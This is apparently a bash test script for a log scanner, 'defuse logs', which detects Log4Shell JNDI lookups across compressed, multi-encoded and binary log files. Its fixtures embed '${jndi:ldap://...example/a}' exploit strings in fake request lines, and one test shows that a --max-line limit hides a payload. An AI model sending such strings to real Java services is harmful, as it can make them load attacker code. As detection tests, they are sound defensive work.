#!/usr/bin/env bash
# logs_inputs.sh -- `defuse logs` reads every kind of input: gzip, bzip2, xz,
# zstd, lzma, lz4 (by content, also on stdin), UTF-16LE/BE with and without
# BOM, Latin-1 lines,
# CRLF, a last line without newline, a 5 MB line, --max-line, stdin,
# directories (sorted, recursive, symlinks named and not followed unless
# --follow-symlinks), binary files, and errors (missing file, corrupt gzip)
# that are named and give exit 2 while the other files are still scanned.
source "$(dirname "$0")/logs_lib.bash"
cd "$T"

# callback(host) payload of a line; hosts tell the fixtures apart
pl() { printf '${jndi:ldap://%s.example/a}' "$1"; }
mk() { # name host line-of-payload total-lines
    local i; for i in $(seq 1 "$4"); do
        if [ "$i" = "$3" ]; then echo "192.0.2.1 - - [10/Dec/2021:13:00:0$((i % 10)) +0000] \"GET /$(pl "$2") HTTP/1.1\" 404 1 \"-\" \"-\""
        else echo "192.0.2.2 - - [10/Dec/2021:12:00:00 +0000] \"GET /page/$i HTTP/1.1\" 200 10 \"-\" \"Mozilla/5.0\""; fi
    done > "$1"
}
mk plain.log plain 4 6
mk g.log gz 2 5;   gzip g.log
mk b.log bz 3 5;   bzip2 b.log
mk x.log xz 5 5;   xz x.log
mk z.log zs 1 5;   zstd -q --rm z.log
mk misnamed zgz 2 3; gzip -c misnamed > misnamed.txt; rm misnamed
mk m.log lzm 2 4;  xz --format=lzma m.log
if command -v lz4 >/dev/null; then mk l.log lzf 3 3; lz4 -q --rm l.log l.log.lz4; fi
python3 - <<'PY'
for enc, name in (("utf-16-le", "u16le.log"), ("utf-16-be", "u16be.log")):
    text = "\ufefffirst line\nsecond \u00e9\n${jndi:ldap://" + name[:5] + ".example/a}\nlast\n"
    open(name, "wb").write(text.encode(enc))
# UTF-16 without a byte-order mark
open("nb16le.log", "wb").write("first line\n${jndi:ldap://nb16le.example/a}\n".encode("utf-16-le"))
open("nb16be.log", "wb").write("first line\n${jndi:ldap://nb16be.example/a}\n".encode("utf-16-be"))
# Latin-1: e-acute as one byte 0xE9 (not valid UTF-8)
open("latin1.log", "wb").write(b"ok\ncaf\xe9 ${jndi:ldap://latin.example/caf\xe9}\n")
open("crlf.log", "wb").write(b"a\r\nb\r\n${jndi:ldap://crlf.example/a}\r\n")
open("nonl.log", "wb").write(b"a\nb\n${jndi:ldap://nonl.example/a}")
# 5 MB line with the payload at its end, between two short lines
open("long.log", "wb").write(b"short\n" + b"a" * (5 * 1024 * 1024) + b" ${jndi:ldap://long.example/a}\nend\n")
# binary: NUL-heavy, with one text line holding a payload
open("bin.dat", "wb").write(b"\0" * 4000 + b"\n${jndi:ldap://bin.example/a}\n" + b"\0\1\2" * 1000)
# corrupt gzip: magic then garbage
open("corrupt.gz", "wb").write(b"\x1f\x8b\x08\x00" + b"garbage" * 50)
PY

# ---- each file alone, checked through --json ------------------------------
check() { # file want-line want-host [defuse options...]
    local f=$1 line=$2 host=$3; shift 3
    "$DEFUSE" logs --json "$@" "$f" > out.json 2> err.txt
    local rc=$?
    python3 - "$f" "$line" "$host" <<'PY' || fail "$f: JSON check"
import json, sys
f, line, host = sys.argv[1], int(sys.argv[2]), sys.argv[3]
rows = [json.loads(l) for l in open("out.json")]
hits = [r for r in rows if r.get("kind") == "jndi"]
assert len(hits) == 1, "want exactly one jndi finding, got %r" % rows
r = hits[0]
assert r["file"] == f, (r["file"], f)
assert r["line"] == line, ("line", r["line"], line)
assert ("//%s.example/" % host) in r["callback"], r["callback"]
PY
    expect_rc 1 "$rc" "$f: finding at line $line"
}
check plain.log 4 plain
check g.log.gz 2 gz
check b.log.bz2 3 bz
check x.log.xz 5 xz
check z.log.zst 1 zs
check misnamed.txt 2 zgz
check m.log.lzma 2 lzm
[ -f l.log.lz4 ] && check l.log.lz4 3 lzf
check u16le.log 3 u16le
check u16be.log 3 u16be
check nb16le.log 2 nb16le
check nb16be.log 2 nb16be
check crlf.log 3 crlf
check nonl.log 3 nonl
check long.log 2 long
check bin.dat 2 bin
expect_grep "bin.dat: warning: binary file" err.txt "binary file named on stderr"
check latin1.log 2 latin
python3 -c '
import json; r=[json.loads(l) for l in open("out.json")][0]
assert r["callback"].endswith("/caf\u00e9"), r["callback"]' && ok "Latin-1 byte converted to U+00E9" || fail "Latin-1 conversion"

# ---- --max-line: the payload past the limit is not examined, and a warning
# names file:line -------------------------------------------------------------
"$DEFUSE" logs --max-line=1M long.log > out.txt 2> err.txt
rc=$?
expect_rc 0 "$rc" "--max-line=1M hides a payload at 5 MB"
expect_grep "long.log:2: warning: line longer than 1048576 bytes" err.txt "overlong line named"

# ---- stdin, plain and compressed ------------------------------------------
"$DEFUSE" logs < plain.log > out.txt; rc=$?
expect_rc 1 "$rc" "stdin"
expect_grep "(standard input):4: jndi ldap[:]//plain[.]example/a" out.txt "stdin finding line"
"$DEFUSE" logs - < x.log.xz > out.txt; rc=$?
expect_rc 1 "$rc" "xz on stdin"
expect_grep "(standard input):5: jndi" out.txt "xz stdin finding line"

# ---- directories ----------------------------------------------------------
mkdir -p tree/a tree/b
cp plain.log tree/b/2.log; mk tree/a/1.log one 1 2; cp g.log.gz tree/c.gz
ln -s ../../plain.log tree/b/link.log
"$DEFUSE" logs tree > out.txt 2> err.txt; rc=$?
expect_rc 1 "$rc" "directory"
sed -n 's/: jndi.*//p' out.txt > order.txt
printf 'tree/a/1.log:1\ntree/b/2.log:4\ntree/c.gz:2\n' > want.txt
if cmp -s order.txt want.txt; then ok "directory walked recursively in sorted order"; else fail "directory order:"; cat order.txt >&2; fi
expect_grep "tree/b/link.log: symbolic link not followed" err.txt "symlink named, not followed"
"$DEFUSE" logs --follow-symlinks tree > out.txt 2> err.txt
expect_grep "tree/b/link.log:4: jndi" out.txt "--follow-symlinks follows it"

# ---- errors: named, exit 2, other files still scanned ------------------------
"$DEFUSE" logs plain.log missing.log corrupt.gz g.log.gz > out.txt 2> err.txt; rc=$?
expect_rc 2 "$rc" "missing + corrupt files give exit 2 even with findings"
expect_grep "missing.log: No such file or directory" err.txt "missing file named with reason"
expect_grep "corrupt.gz:" err.txt "corrupt gzip named"
expect_grep "plain.log:4: jndi" out.txt "file before the errors scanned"
expect_grep "g.log.gz:2: jndi" out.txt "file after the errors scanned"
if [ "$(id -u)" != 0 ]; then
    cp plain.log noread.log; chmod 000 noread.log
    "$DEFUSE" logs noread.log 2> err.txt; expect_rc 2 $? "unreadable file"
    expect_grep "noread.log: Permission denied" err.txt "unreadable file named"
fi

# empty compressed logs are clean; a cut-off one is an error
: > e.log; gzip e.log; : | xz > e.xz
"$DEFUSE" logs e.log.gz e.xz > out.txt 2> err.txt; expect_rc 0 $? "empty gzip and xz streams are clean"
[ -s err.txt ] && fail "empty streams reported: $(cat err.txt)" || ok "empty streams quiet"
printf '\037\213' > cut.gz
"$DEFUSE" logs cut.gz 2> err.txt; expect_rc 2 $? "2-byte gzip"
expect_grep "cut.gz: not a valid gzip stream" err.txt "cut-off gzip named"

# ---- clean input: exit 0, no output -------------------------------------------
printf 'GET /index.html\nprice is $5 {ok}\n' > clean.log
"$DEFUSE" logs clean.log > out.txt; rc=$?
expect_rc 0 "$rc" "clean file"
[ -s out.txt ] && fail "clean file printed output" || ok "clean file prints nothing"
finish
